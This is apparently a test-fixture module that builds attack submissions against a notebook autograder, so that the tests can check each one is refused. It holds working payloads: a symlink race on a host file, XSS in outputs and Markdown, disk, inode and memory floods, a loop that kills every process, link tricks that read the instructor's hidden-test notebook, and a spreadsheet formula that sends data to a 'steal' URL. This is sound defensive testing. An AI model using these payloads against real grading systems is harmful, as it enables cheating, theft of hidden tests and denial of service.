"""Attacks that reach past a learner's own grade (issue 24): races, links, shared outputs, pages.

Each is a learner of ``01-loading-data`` (the cheapest notebook to grade) who hands in either
the worked solution with one answer cell replaced (a wrong answer plus a trick, as in
:mod:`attacks`), or a crafted submission folder. ``tests/grading/test_attacks_host.py`` grades
them all, with an honest control learner, through ``mnistlib grade`` on single notebooks, on a
class folder, and through the real ``nbgrader autograde`` / ``generate_feedback``.

Placeholders in ``code``: as in :mod:`attacks`, plus ``__CANARY__``: a host file (mode 0600)
that the test makes before grading and that the learner's code tries to have the grader change.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

from attacks import CONTROL, SOLUTIONS, WRONG, Attack, attack_notebook, wrong

ASSIGNMENT = "01-loading-data"

#: Class 1: a thread swaps every folder the grader makes where the kernel can write (the calls
#: folder, each call's folder) for a link to a host file, hoping the grader changes it by path.
RACE = """
import json as _json
import os as _os
import threading as _threading

import ipykernel as _ipykernel


def _attack_run_dir():
    info = _json.load(open(_ipykernel.get_connection_file()))
    where = info["ip"] if info.get("transport") == "ipc" else _ipykernel.get_connection_file()
    return _os.path.dirname(where)


def _attack_race(folder):
    seen = set()
    while True:
        for parent in [folder] + [_os.path.join(folder, n) for n in _os.listdir(folder) if n.startswith("mnistlib-calls-")]:
            try:
                names = _os.listdir(parent)
            except OSError:
                continue
            for name in names:
                path = _os.path.join(parent, name)
                if name.startswith(("mnistlib-calls-", "call-")) and path not in seen and not _os.path.islink(path):
                    seen.add(path)
                    try:
                        _os.rename(path, path + ".taken")
                        _os.symlink("__CANARY__", path)
                    except OSError:
                        pass


_threading.Thread(target=_attack_race, args=(_attack_run_dir(),), daemon=True).start()
"""

#: Class 3: the learner's function warns; Python would print the warning's location's source
#: line, which was the hidden test's calling line.
WARN = "    import warnings as _warnings\n\n    _warnings.warn('peek at the hidden tests')\n"

#: Class 5: script in the learner's outputs and Markdown, for the feedback page and formgrader.
SCRIPT = """
from IPython.display import HTML as _HTML
from IPython.display import Javascript as _Javascript
from IPython.display import display as _display

_display(_HTML('<script>window.__MARKER__ = 1</script><img src="x" onerror="window.__MARKER__ = 2">'
               '<a href="javascript:window.__MARKER__ = 3">click</a>'))
_display(_Javascript('window.__MARKER__ = 4'))
"""
SCRIPT_MARKDOWN = (
    'My notes <script>window.__MARKER__ = 5</script> <b onmouseover="window.__MARKER__ = 6">b</b> '
    "[link](javascript:window.__MARKER__=7)"
)

#: Class 6: an extra file of the submission folder, read by the learner's code while graded.
READ_NOTES = """
try:
    print(open("notes.txt").read())
except OSError as _error:
    print("no notes:", _error)
"""


#: Class 4: output the kernel's own cap never sees, or sees and is bypassed: one 8 MB line written
#: past the kernel's wrapped ``write``, and 30,000 empty displays.
FLOOD = """
import sys as _sys

from IPython.display import display as _display

type(_sys.stdout).write(_sys.stdout, "__MARKER__" + "x" * 8_000_000 + "\\n")
_sys.stdout.flush()
for _ in range(30_000):
    _display({"text/plain": ""}, raw=True)
"""

#: The kernel's own run folder (its sockets, the checker's calls): the one place it writes that the
#: grader outside reads, found as a learner would, from the kernel's connection file.
RUN_DIR = """
import json as _json
import os as _os

import ipykernel as _ipykernel


def _attack_run_dir():
    info = _json.load(open(_ipykernel.get_connection_file()))
    where = info["ip"] if info.get("transport") == "ipc" else _ipykernel.get_connection_file()
    return _os.path.dirname(where)
"""

#: Class 7: millions of empty files in every writable place, the run folder too (each one costs an
#: inode of the host's disk if the place is the host's), and a report of how many each place took.
INODES = (
    RUN_DIR
    + """


def _attack_fill(folder, limit=200_000):
    made = 0
    try:
        _os.makedirs(folder, exist_ok=True)
        for made in range(limit):
            open(_os.path.join(folder, f"f{made}"), "w").close()
        made = limit
    except OSError:
        pass
    return made


_attack_made = {
    place: _attack_fill(_os.path.join(place, "__MARKER__"))
    for place in ("/tmp", _os.getcwd(), "/dev/shm", _attack_run_dir())
}
print("files made:", _attack_made)
"""
)


#: Class 7 (bytes): files of 64 MB in every writable place, the run folder too, until the place is
#: full (or 1 GB is written), and a report of how many MB each took and how big each place is.
DISK = (
    RUN_DIR
    + """

def _attack_write(folder, limit_mb=1024):
    chunk, written = b"x" * 2**20, 0
    try:
        _os.makedirs(folder, exist_ok=True)
        while written < limit_mb:
            with open(_os.path.join(folder, f"f{written}"), "wb") as _out:
                for _ in range(64):
                    _out.write(chunk)
                    written += 1
    except OSError:
        pass
    return written


_attack_places = {"tmp": "/tmp", "cwd": _os.getcwd(), "shm": "/dev/shm", "run": _attack_run_dir()}
_attack_mb = {name: _attack_write(_os.path.join(place, "__MARKER__")) for name, place in _attack_places.items()}
_attack_run = _os.statvfs(_attack_places["run"])
print("MB written:", _attack_mb)
print("run folder:", {"mb": _attack_run.f_blocks * _attack_run.f_frsize // 2**20, "files": _attack_run.f_files})
"""
)

#: Class 4 (memory): shared memory a data-segment cap never sees: memfds of 256 MB (one file may be
#: at most MAX_FILE_MB), mapped and filled, until 6 GB are held or something stops the kernel.
MEMFD = """
import mmap as _mmap
import os as _os

_attack_held, _attack_chunk = [], b"\1" * 2**24
for _attack_i in range(24):
    _attack_fd = _os.memfd_create(f"hoard{_attack_i}")
    _os.ftruncate(_attack_fd, 2**28)
    _attack_map = _mmap.mmap(_attack_fd, 2**28)
    for _ in range(16):
        _attack_map.write(_attack_chunk)
    _attack_held.append(_attack_map)
    print(f"hoard: {256 * len(_attack_held)} MB", flush=True)
"""

#: Class 4 (a dead kernel): the kernel kills every process it can see (its grading worker, if it
#: could see it), then itself, in the middle of the notebook.
KILL = """
import os as _os
import signal as _signal

print("killing from", _os.getpid(), flush=True)
for _attack_pid in sorted(int(p) for p in _os.listdir("/proc") if p.isdigit()):
    if _attack_pid != _os.getpid():
        try:
            _os.kill(_attack_pid, _signal.SIGKILL)
        except OSError:
            pass
try:
    _os.kill(-1, _signal.SIGKILL)  # every process it may signal, but itself
except OSError:
    pass
_os.kill(_os.getpid(), _signal.SIGKILL)
"""


@dataclass(frozen=True)
class FolderAttack:
    """A crafted submission folder (class 6): how its files are made, and what it aims at."""

    name: str
    kind: str
    #: ``(folder, control notebook, outside) -> None``: makes the learner's folder (``folder`` does
    #: not exist yet); ``outside`` is a notebook outside the class folder (the instructor's source)
    make: object
    refused: bool  #: the notebook itself must be refused (scores 0 with a note, or nbgrader refuses it)
    nbgrader: bool = True  #: also part of the nbgrader run
    attack: Attack | None = field(default=None)  #: the notebook's answer-cell attack, if any


def _a(name, exercise, kind, code, **kw) -> Attack:
    return Attack(
        name=name, assignment=ASSIGNMENT, exercise=exercise, kind=kind, code=code.strip() + "\n", **kw
    )


ATTACKS = [
    _a("race-calls-folder", "label_counts", "race", RACE + WRONG["label_counts"]),
    _a("warning-location", "get_digit", "leak", wrong("get_digit", WARN)),
    _a("script-in-feedback", "label_counts", "html", SCRIPT + WRONG["label_counts"]),
    _a("output-flood", "label_counts", "output", FLOOD + WRONG["label_counts"]),
    _a("inode-flood", "label_counts", "disk", INODES + WRONG["label_counts"]),
    _a("disk-flood", "label_counts", "disk", DISK + WRONG["label_counts"]),
    _a("memfd-hoard", "label_counts", "memory", MEMFD + WRONG["label_counts"]),
    _a("kill-kernel", "label_counts", "dead", KILL + WRONG["label_counts"]),
]

NOTES_ATTACK = _a("notes-link", "label_counts", "links", WRONG["label_counts"] + READ_NOTES)


def _link_notebook(folder: Path, control: Path, outside: Path) -> None:
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.ipynb").symlink_to(os.path.relpath(control, folder))


def _hard_link_notebook(folder: Path, control: Path, outside: Path) -> None:
    folder.mkdir(parents=True)
    os.link(outside, folder / f"{ASSIGNMENT}.ipynb")  # the source notebook: it would score full marks


def _linked_learner_folder(folder: Path, control: Path, outside: Path) -> None:
    folder.parent.symlink_to(control.parent.parent.name, target_is_directory=True)


def _notes_link(folder: Path, control: Path, outside: Path) -> None:
    """A notebook with a wrong answer, and ``notes.txt`` linked to the course's source notebook
    (from ``submitted/<learner>/<assignment>/``, three levels up is the course folder)."""
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(attack_notebook(NOTES_ATTACK, "", ""), indent=1))
    (folder / "notes.txt").symlink_to(f"../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")
    os.mkfifo(folder / "data.bin")  # a pipe: a copy that reads it would wait for ever


def _formula_timestamp(folder: Path, control: Path, outside: Path) -> None:
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_bytes(control.read_bytes())
    (folder / "timestamp.txt").write_text('=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"2026-12-02 05:23:21")')


FOLDER_ATTACKS = [
    FolderAttack("notebook-link", "links", _link_notebook, refused=True),
    FolderAttack("notebook-hard-link", "links", _hard_link_notebook, refused=True),
    FolderAttack("learner-folder-link", "links", _linked_learner_folder, refused=True),
    FolderAttack("notes-link", "links", _notes_link, refused=False, attack=NOTES_ATTACK),
    # nbgrader itself refuses a timestamp that is not a date; its export is nbgrader's own
    FolderAttack("formula-timestamp", "csv", _formula_timestamp, refused=False, nbgrader=False),
]


def build_host_class(submitted: Path, marker_of, canary: Path, outside: Path, nbgrader: bool = False) -> None:
    """``submitted/<learner>/01-loading-data/``: the control, every attack, every crafted folder
    (``nbgrader``: only those the nbgrader run takes). ``outside``: a notebook outside the class
    folder (the instructor's source notebook, hidden tests and all)."""
    control = submitted / CONTROL / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    control.parent.mkdir(parents=True)
    control.write_bytes((SOLUTIONS / f"{ASSIGNMENT}.ipynb").read_bytes())
    for attack in ATTACKS:
        notebook = attack_notebook(attack, marker_of(attack.name), "")
        for cell in notebook["cells"]:
            if isinstance(cell["source"], str):
                cell["source"] = cell["source"].replace("__CANARY__", str(canary))
        if attack.name == "script-in-feedback":
            markdown = SCRIPT_MARKDOWN.replace("__MARKER__", marker_of(attack.name))
            notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": markdown})
        target = submitted / attack.name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        target.parent.mkdir(parents=True)
        target.write_text(json.dumps(notebook, indent=1))
    for attack in FOLDER_ATTACKS:
        if attack.nbgrader or not nbgrader:
            attack.make(submitted / attack.name / ASSIGNMENT, control, outside)
